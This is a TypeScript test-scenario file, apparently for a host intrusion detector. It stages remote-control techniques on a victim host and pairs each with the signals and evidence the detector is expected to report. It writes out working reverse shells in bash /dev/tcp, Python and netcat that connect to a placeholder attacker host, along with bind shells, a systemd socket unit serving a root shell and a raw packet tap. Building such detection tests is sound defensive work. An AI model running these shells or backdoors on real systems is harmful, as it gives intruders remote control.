import type { Host } from '../../../hosts/index.ts';
import { ATTACKER, call, NETCAT, type Scenario, waitFor } from './scenario.ts';

/** The two ways of every list of one-liners. */
const PYTHON_PTY = `import os,pty,socket;s=socket.create_connection(("${ATTACKER}",4102));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
const PYTHON_SUBPROCESS = `import socket,subprocess;s=socket.create_connection(("${ATTACKER}",4103));subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)`;
/** A bind shell as intruders write it: its own port listens on. */
const BIND_SHELL = `
import os, socket, subprocess
door = socket.create_server(('0.0.0.0', 4006))
peer = door.accept()[0]
subprocess.call(['/bin/sh', '-i'], stdin=peer, stdout=peer, stderr=peer)
`;
const SOCKET = `[Socket]
ListenStream=4011
Accept=yes
`;
const SERVICE = `[Service]
ExecStart=/bin/bash
StandardInput=socket
`;
const TAP = `
import socket, time
tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
print("hears", flush=True)
time.sleep(600)
`;

export const REMOTE_CONTROL: readonly Scenario[] = [
  {
    id: 'bash-reverse-shell',
    place: { to: 4101 },
    stage: async (scene) => {
      await waitFor(scene, 4101);
      await scene.victim.spawn(['bash', '-c', `exec bash -i >& /dev/tcp/${ATTACKER}/4101 0>&1`]);
    },
    suspicion: 'high',
    signals: ['streams-on-socket'],
    evidence: [
      ['streams', /^0, 1, 2: socket:\[\d+\]$/],
      ['peer', `${ATTACKER}:4101`],
    ],
  },
  {
    id: 'python-reverse-shell',
    place: { to: 4102 },
    stage: async (scene) => {
      await waitFor(scene, 4102);
      await scene.victim.spawn(['python3', '-c', PYTHON_PTY]);
    },
    suspicion: 'high',
    signals: ['streams-on-socket'],
    evidence: [
      ['streams', /^0, 1, 2: socket:\[\d+\]$/],
      ['arguments', /pty\.spawn/],
    ],
  },
  {
    id: 'python-subprocess-shell',
    place: { to: 4103 },
    stage: async (scene) => {
      await waitFor(scene, 4103);
      await scene.victim.spawn(['python3', '-c', PYTHON_SUBPROCESS]);
    },
    suspicion: 'high',
    signals: ['streams-on-socket', 'shell-on-socket'],
    evidence: [
      ['streams', /^0, 1, 2: socket:\[\d+\]$/],
      ['arguments', '/bin/sh -i'],
    ],
  },
  {
    id: 'netcat-reverse-shell',
    place: { to: 4104 },
    stage: async (scene) => {
      await waitFor(scene, 4104);
      await scene.victim.spawn([NETCAT, '-e', '/bin/sh', ATTACKER, '4104']);
    },
    suspicion: 'high',
    signals: ['streams-on-socket'],
    evidence: [['streams', /socket:\[\d+\]$/]],
  },
  {
    id: 'shell-script-to-stranger',
    place: { to: 4105 },
    stage: async (scene) => {
      await waitFor(scene, 4105);
      await scene.victim.spawn(['bash', '-c', `exec 3<>/dev/tcp/${ATTACKER}/4105; while read -r x <&3; do :; done`]);
    },
    suspicion: 'medium',
    signals: ['shell-on-socket'],
    evidence: [
      ['arguments', /\/dev\/tcp\//],
      ['peer', `${ATTACKER}:4105`],
    ],
  },
  {
    id: 'netcat-shell',
    place: { port: 4005 },
    stage: ({ victim }) => victim.spawn([NETCAT, '-l', '-p', '4005', '-e', '/bin/sh']),
    suspicion: 'high',
    signals: ['shell-relay'],
    evidence: [['arguments', `${NETCAT} -l -p 4005 -e /bin/sh`]],
  },
  {
    id: 'bind-shell',
    place: { port: 4006 },
    stage: ({ victim }) => victim.spawn(['python3', '-c', BIND_SHELL]),
    onceUp: (scene) => call(scene, 4006),
    suspicion: 'high',
    signals: ['shell-on-socket', 'streams-on-socket'],
    evidence: [
      ['streams', /^0, 1, 2: socket:\[\d+\]$/],
      ['arguments', '/bin/sh -i'],
    ],
  },
  {
    id: 'systemd-root-shell',
    place: { by: 4011 },
    stage: ({ victim }) => socketUnit(victim, 'root-shell', SOCKET, SERVICE),
    onceUp: (scene) => call(scene, 4011),
    suspicion: 'medium',
    signals: ['streams-on-socket'],
    evidence: [['arguments', '/bin/bash']],
  },
  {
    id: 'packet-tap',
    place: { of: '/opt/x/python3' },
    stage: async ({ victim }) => {
      const copy = '{ cat "$(readlink -f /usr/bin/python3)"; echo; } >/opt/x/python3 && chmod 755 /opt/x/python3';
      await victim.must(['sh', '-c', `mkdir -p /opt/x && ${copy}`]);
      await victim.write('/srv/tap.py', TAP);
      await (await victim.spawn(['/opt/x/python3', '/srv/tap.py'])).printed('hears');
    },
    suspicion: 'medium',
    signals: ['packet-tap'],
    evidence: [
      ['tap', /^all packets, ino:\d+$/],
      ['no-package', '/opt/x/python3'],
    ],
  },
];

async function socketUnit(host: Host, name: string, socket: string, service: string): Promise<void> {
  await host.write(`/etc/systemd/system/${name}.socket`, socket);
  await host.write(`/etc/systemd/system/${name}@.service`, service);
  await host.must(['systemctl', 'daemon-reload']);
  await host.must(['systemctl', 'start', `${name}.socket`]);
}
